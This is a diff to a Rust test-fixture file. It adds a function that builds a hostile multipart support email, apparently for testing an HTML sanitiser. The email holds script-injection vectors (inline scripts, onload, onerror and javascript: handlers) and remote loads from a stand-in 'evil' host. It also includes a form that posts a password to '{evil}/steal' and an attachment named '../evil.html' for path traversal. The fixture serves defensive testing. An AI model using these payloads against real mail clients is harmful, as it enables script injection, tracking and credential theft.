@@ -689,6 +689,30 @@ Koen De Witte\n"
     .into_bytes()
 }
 
+/// A multipart mail whose HTML part tries everything; `evil` is where its
+/// remote references point.
+pub fn hostile_mail(message_id: &str, evil: &str) -> Vec<u8> {
+    format!(
+        "Message-ID: <{message_id}>\r\nFrom: Koen De Witte <koen.dewitte@delinde.example>\r\nTo: support@example.test\r\n\
+Subject: Zorgplan opslaan mislukt\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n\
+--b0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n\
+--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBij het opslaan van een zorgplan krijgen we een foutmelding.\r\n<script>window.__pwned = 1</script>\r\n\
+--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
+<html><head><meta http-equiv=\"refresh\" content=\"0;url={evil}/refresh\"><base href=\"{evil}/\">\
+<link rel=\"stylesheet\" href=\"{evil}/style.css\"><style>body{{background:url({evil}/bg.png)}}</style>\
+<script>window.__pwned = 1; document.title = 'pwned'; top.__pwned = 1;</script><script src=\"{evil}/x.js\"></script></head>\
+<body onload=\"window.__pwned=2; top.__pwned=2\"><p>Bij het opslaan van een <b>zorgplan</b> krijgen we een foutmelding.</p>\
+<img src=\"{evil}/track.gif\" onerror=\"top.__pwned=3\" alt=\"logo\"><a href=\"javascript:top.__pwned=4\">klik</a>\
+<form action=\"{evil}/steal\" method=\"post\"><input name=\"pw\" value=\"x\"><button>Send</button></form>\
+<svg onload=\"top.__pwned=5\"><image href=\"{evil}/svg.png\"/></svg>\
+<div style=\"background:url({evil}/div.png)\" data-x=\"1\" hx-get=\"/api/tickets\" hx-trigger=\"load\">Tabel</div>\
+<iframe src=\"{evil}/frame\"></iframe><video src=\"{evil}/v.mp4\" autoplay></video></body></html>\r\n--b1--\r\n\
+--b0\r\nContent-Type: text/html; name=\"../evil.html\"\r\nContent-Disposition: attachment; filename=\"../evil.html\"\r\n\r\n\
+<script>top.__pwned = 7</script><img src=\"{evil}/att.gif\">\r\n--b0--\r\n"
+    )
+    .into_bytes()
+}
+
 // ---------------------------------------------- raw APPEND, extra config --
 
 impl MailServers {
